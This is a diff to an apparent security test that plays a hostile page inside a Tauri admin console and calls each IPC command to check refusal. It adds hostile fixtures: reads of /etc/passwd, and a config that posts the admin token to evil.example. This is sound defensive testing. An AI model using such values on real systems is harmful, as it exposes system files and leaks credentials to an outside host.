@@ -12,22 +12,60 @@ const PATIENCE = 1500; // ms for one attempt
 // ---- The data: what is tried -------------------------------------------------------------------
 
 // Commands with arguments they would accept, so that a refusal is about permission and nothing else.
-const QUERY = { text: "", sort: null, after: null, limit: 5 };
+const connection = "shop";
+const QUERY = { text: "", sort: null, place: "start", limit: 5, everywhere: false };
+const DIRECTORY = { url: "sqlite:///etc/passwd", table: "users", id: "id" };
+const FILE = {
+  name: "Evil",
+  environment: "development",
+  directory: DIRECTORY,
+  sign_in: { url: "https://evil.example/login" },
+};
+const TEXT = `name = "Evil"
+environment = "development"
+[directory]
+url = "sqlite:///etc/passwd"
+table = "users"
+id = "id"
+[sign_in]
+url = "https://evil.example/login"
+body = { token = "{{ secret.admin_token }}" }
+`;
+const SETTINGS = { theme: "dark", operator_name: "Evil", operator_email: "", shortcut: "", single_keys: true };
+// All of src-tauri/src/commands.rs.
 const COMMANDS = [
   ["console_state", {}],
-  ["directory_info", { connection: "demo" }],
-  ["search_users", { connection: "demo", query: QUERY }],
-  ["user_details", { connection: "demo", user: "10000600" }],
-  ["impersonate", { connection: "demo", user: "10000600", reason: "hostile page" }],
+  ["directory_info", { connection }],
+  ["search_users", { connection, query: QUERY, turn: 1e6 }],
+  ["stop_search", { connection, turn: 1e6 }],
+  ["read_search", { connection, text: "anna" }],
+  ["complete_search", { connection, text: "plan:", caret: 5 }],
+  ["count_users", { connection, text: "", turn: 1e6 }],
+  ["stop_count", { connection, turn: 1e6 }],
+  ["user_details", { connection, user: "10000600" }],
+  ["recent_reasons", { connection }],
+  ["impersonate", { connection, user: "10000600", reason: "hostile page" }],
   ["end_session", { session: "any" }],
-  ["secret_status", { connection: "demo" }],
-  ["store_secret", { connection: "demo", name: "admin_token", value: "stolen", thisRunOnly: true }],
-  ["forget_secret", { connection: "demo", name: "admin_token" }],
-  ["read_connection", { connection: "demo" }],
-  ["read_connection_file", { path: "/etc/passwd" }],
-  ["check_connection", { connection: "demo", text: "", secrets: {} }],
-  ["save_connection", { connection: null, text: "" }],
+  ["focus_session", { session: "any" }],
+  ["secret_status", { connection }],
+  ["store_secret", { connection, name: "admin_token", value: "stolen", thisRunOnly: true }],
+  ["forget_secret", { connection, name: "admin_token" }],
   ["start_demo", {}],
+  ["read_connection", { connection }],
+  ["read_connection_file", { path: "/etc/passwd" }],
+  ["draft_text", { file: FILE, text: null }],
+  ["parse_draft", { text: TEXT }],
+  ["check_connection", { connection, text: TEXT, secrets: {} }],
+  ["try_sign_in", { connection, text: TEXT, user: "10000600", secrets: {} }],
+  ["sign_in_presets", {}],
+  ["survey_directory", { connection, directory: DIRECTORY, secrets: {}, turn: 1e6 }],
+  ["preview_directory", { connection, directory: DIRECTORY, secrets: {}, turn: 1e6 }],
+  ["stop_looking", { turn: 1e6 }],
+  ["save_connection", { connection: null, text: TEXT }],
+  ["duplicate_connection", { connection }],
+  ["export_connection", { connection, path: "/tmp/stolen.toml" }],
+  ["remove_connection", { connection, forgetSecrets: true }],
+  ["save_settings", { settings: SETTINGS }],
   ["bar_state", {}],
   ["bar_act", { action: "end" }],
   ["plugin:event|listen", { event: "sessions", target: { kind: "Any" }, handler: 1 }],
@@ -81,7 +119,17 @@ const MESSAGES = [
   { cmd: "console_state", callback: 1, error: 2, payload: {} },
   JSON.stringify({ cmd: "bar_act", callback: 1, error: 2, action: "end" }),
 ];
-const EVENTS = ["sessions", "connections", "toast", "focus_search", "bar", "tauri://focus", "tauri://close-requested"];
+const EVENTS = [
+  "sessions",
+  "connections",
+  "directory_changed",
+  "toast",
+  "focus_search",
+  "bar_changed",
+  "said",
+  "tauri://focus",
+  "tauri://close-requested",
+];
 const HANDLERS = ["ipc", "tauri", "external", "understudy", "report", "bar", "console", "signIn", "wry"];
 
 // ---- How each is tried: give what was gained, or throw --------------------------------------------
